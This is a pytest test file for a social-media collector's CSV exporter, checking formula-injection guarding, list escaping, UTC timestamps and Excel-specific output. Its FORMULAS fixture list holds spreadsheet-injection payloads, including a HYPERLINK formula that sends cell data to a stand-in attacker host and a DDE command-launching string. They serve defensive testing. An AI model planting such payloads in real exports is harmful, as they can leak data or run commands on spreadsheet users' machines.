from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from making_export import make_export_row

from collector.export import COLUMNS, select_columns, write
from collector.model import ExportRow

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"read on")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@carys@fedi.example you were there",
    "+1",
    "-1",
    "-1, said the committee",
    "- a list",
    "\t=1",
    "\tindented",
    "\r=1",
    "\nbelow",
    "  =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x00=1",
    "'=1",
    "''=1",
    "'\tindented",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
HARMLESS = [
    "",
    "They renamed the box",
    "1-1=0",
    "  indented",
    "'tis so",
    '"=1" is no formula',
    "#notcoproduction",
    "¯\\_(ツ)_/¯",
    "–1",
    "日本 = 国",
    "🙂=1",
]


def written(*rows: ExportRow, columns: str | None = None, **options: bool) -> bytes:
    out = io.BytesIO()
    assert write("csv", rows, out, select_columns(columns) if columns else COLUMNS, **options) == len(rows)
    return out.getvalue()


def read(data: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), strict=True))


def cell(column: str, value: Any, **options: bool) -> str:
    data = written(make_export_row(**{column: value}), columns=column, **options)
    return read(data, "utf-8-sig")[1][0]


def unguarded(text: str) -> str:
    """The text that was written, as a reader of the documentation would work it out."""
    runs = re.compile(r"'*[\t\r\n]|[\s\x00-\x1f\u200b\u2060\ufeff']*[=+\-@＝＋－＠]")
    return text[1:] if text.startswith("'") and runs.match(text[1:]) else text


def split(joined: str) -> list[str]:
    """The items of a list, as a reader of the documentation would work them out."""
    return [re.sub(r"(?<![^ ])\\(?=\\*\|(?![^ ]))", "", item) for item in joined.split(" | ")]


def test_a_row_is_written_cell_by_cell() -> None:
    row = make_export_row(
        text='Line one, said "they"\r\nline two',
        hashtags=("NotCoproduction", "meetings"),
        is_sensitive=True,
        edited_at=datetime(2026, 11, 17, 10, 2, 13, 5_999, tzinfo=UTC),
    )
    header, cells = read(written(row))
    assert header == [column.name for column in COLUMNS]
    shown = dict(zip(header, cells, strict=True))
    assert shown == {
        "network": "fediverse",
        "source": "our server",
        "topic": "notcoproduction",
        "uri": "https://fedi.example/users/carys/statuses/1",
        "url": "https://fedi.example/@carys/1",
        "published_at": "2026-11-17T09:41:00.000Z",
        "edited_at": "2026-11-17T10:02:13.005Z",
        "first_seen_at": "2026-11-17T09:50:07.412Z",
        "author_id": "carys@fedi.example",
        "author_handle": "carys@fedi.example",
        "author_name": "Carys",
        "author_url": "https://fedi.example/@carys",
        "author_is_bot": "false",
        "title": "",
        "text": 'Line one, said "they"\r\nline two',
        "content_warning": "",
        "language": "en",
        "hashtags": "NotCoproduction | meetings",
        "mentions": "",
        "links": "",
        "media_urls": "",
        "media_types": "",
        "media_alt_texts": "",
        "reply_to_uri": "",
        "quote_of_uri": "",
        "replies": "0",
        "boosts": "12",
        "likes": "31",
        "quotes": "0",
        "is_sensitive": "true",
        "seen_on": "our server",
        "also_at": "",
        "digests": "weekly/2026-W47",
    }


def test_lines_end_in_crlf_and_numbers_stand_bare() -> None:
    data = written(make_export_row(text='a "b"\nc', likes=3), columns="text,likes,is_sensitive")
    assert data == b'text,likes,is_sensitive\r\n"a ""b""\nc",3,"false"\r\n'


def test_no_rows_leave_the_line_of_names() -> None:
    assert written(columns="uri,text") == b"uri,text\r\n"


def test_a_text_with_a_semicolon_or_a_tab_stands_in_quotes() -> None:
    data = written(make_export_row(text="a;=1+1;b", title="a\t=1+1"), columns="text,title")
    assert data.endswith(b'"a;=1+1;b","a\t=1+1"\r\n')


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert cell("text", text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_kept(text: str) -> None:
    assert cell("text", text) == text


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_raw_cells_are_kept_whatever_they_hold(text: str) -> None:
    assert cell("text", text, raw_cells=True) == text


@pytest.mark.parametrize("column", [column.name for column in COLUMNS if column.kind == "text"])
def test_every_text_is_guarded(column: str) -> None:
    assert cell(column, "=1+1") == "'=1+1"


@pytest.mark.parametrize("column", [column.name for column in COLUMNS if column.kind == "list of texts"])
def test_every_list_is_guarded(column: str) -> None:
    assert cell(column, ("=1+1", "=2")) == "'=1+1 | =2"


@pytest.mark.parametrize(
    ("items", "joined"),
    [
        ((), ""),
        (("a",), "a"),
        (("a", "b"), "a | b"),
        (("a", "", "c"), "a |  | c"),
        (("", ""), " | "),
        (("a | b", "c"), r"a \| b | c"),
        (("https://a.example/?x=1|2",), "https://a.example/?x=1|2"),
        (("|", "|"), r"\| | \|"),
        ((r"a \| b",), r"a \\| b"),
        ((r"C:\new", "¯\\_(ツ)_/¯"), "C:\\new | ¯\\_(ツ)_/¯"),
    ],
)
def test_lists_are_joined(items: tuple[str, ...], joined: str) -> None:
    assert cell("media_alt_texts", items) == joined


@given(st.lists(st.text(st.sampled_from(" |\\ab")) | st.text(), min_size=1).map(tuple))
def test_joined_lists_come_apart_again(items: tuple[str, ...]) -> None:
    assert split(cell("media_alt_texts", items, raw_cells=True)) == list(items)


@given(st.text() | st.text(st.sampled_from("'=\t\n -@ a\"")))
def test_any_text_comes_back(text: str) -> None:
    assert cell("text", text, raw_cells=True) == text
    assert unguarded(cell("text", text)) == text


@pytest.mark.parametrize(
    ("at", "shown"),
    [
        (datetime(2026, 11, 17, 9, 41, tzinfo=UTC), "2026-11-17T09:41:00.000Z"),
        (datetime(2026, 11, 17, 9, 41, 59, 999_999, tzinfo=UTC), "2026-11-17T09:41:59.999Z"),
        (datetime(2026, 11, 17, 0, 30, tzinfo=timezone(timedelta(hours=1))), "2026-11-16T23:30:00.000Z"),
        (datetime(1, 1, 1, tzinfo=UTC), "0001-01-01T00:00:00.000Z"),
        (datetime(2099, 1, 1, tzinfo=UTC), "2099-01-01T00:00:00.000Z"),
    ],
)
def test_instants_are_shown_in_utc(at: datetime, shown: str) -> None:
    assert cell("published_at", at) == shown


def test_a_naive_instant_is_refused() -> None:
    with pytest.raises(ValueError, match="naive"):
        cell("published_at", datetime(2026, 11, 17))  # noqa: DTZ001


def test_half_a_surrogate_pair_becomes_a_question_mark() -> None:
    assert cell("text", "a\ud83dz") == "a?z"


def test_excel_gets_the_byte_order_mark() -> None:
    data = written(make_export_row(), columns="uri", for_excel=True)
    assert data.startswith(b"\xef\xbb\xbfuri\r\n")
    assert not written(make_export_row(), columns="uri").startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("line_break", ["\n", "\r\n", "\r", "\n\n", "\x0b", "\x85", "\u2028", "\u2029"])
def test_excel_gets_each_post_on_one_line(line_break: str) -> None:
    assert cell("text", f"one{line_break}two", for_excel=True) == "one ⏎ two"
    assert cell("media_alt_texts", (f"one{line_break}two", "b"), for_excel=True) == "one ⏎ two | b"


@given(st.lists(st.text()))
def test_excel_gets_as_many_lines_as_posts_whatever_they_hold(texts: list[str]) -> None:
    data = written(*(make_export_row(text=text, author_name=text) for text in texts), for_excel=True)
    assert len(data.decode("utf-8-sig").splitlines()) == len(texts) + 1


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a" * 32_767, "a" * 32_767),
        ("a" * 32_768, "a" * 32_754 + "… [shortened]"),
        ("🙂" * 16_383, "🙂" * 16_383),
        ("🙂" * 16_384, "🙂" * 16_377 + "… [shortened]"),
        ("a" + "🙂" * 16_384, "a" + "🙂" * 16_376 + "… [shortened]"),
        ("=" + "a" * 32_766, "'=" + "a" * 32_752 + "… [shortened]"),
    ],
    ids=["fits", "too long", "pairs fit", "too many pairs", "cut within a pair", "too long with its apostrophe"],
)
def test_excel_gets_no_cell_it_would_cut_silently(text: str, shown: str) -> None:
    assert cell("text", text, for_excel=True) == shown
    assert len(shown.encode("utf-16-le")) // 2 <= 32_767


def test_other_readers_get_long_texts_whole() -> None:
    assert cell("text", "a" * 100_000) == "a" * 100_000


def test_rows_are_written_as_they_come() -> None:
    """A stream of any length must not be gathered first."""
    out = io.BytesIO()

    def rows() -> Iterator[ExportRow]:
        for number in range(3_000):
            if number == 2_999:
                assert out.getvalue().count(b"\r\n") > 2_000
            yield make_export_row(likes=number)

    assert write("csv", rows(), out, select_columns("likes")) == 3_000
    assert numbers(read(out.getvalue())) == list(range(3_000))


def numbers(lines: Iterable[list[str]]) -> list[int]:
    return [int(line[0]) for line in list(lines)[1:]]


def test_earlier_texts_are_joined_as_other_lists_are() -> None:
    row = make_export_row(
        revisions=("=1+1", "a | b"),
        revision_titles=("", ""),
        revisions_replaced_at=(datetime(2026, 11, 17, 10, tzinfo=UTC), datetime(2026, 11, 18, tzinfo=UTC)),
    )
    out = io.BytesIO()
    columns = select_columns("revisions,revision_titles,revisions_replaced_at", with_revisions=True)
    write("csv", [row], out, columns)
    (cells,) = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))[1:]
    assert cells == ["'=1+1 | a \\| b", " | ", "2026-11-17T10:00:00.000Z | 2026-11-18T00:00:00.000Z"]
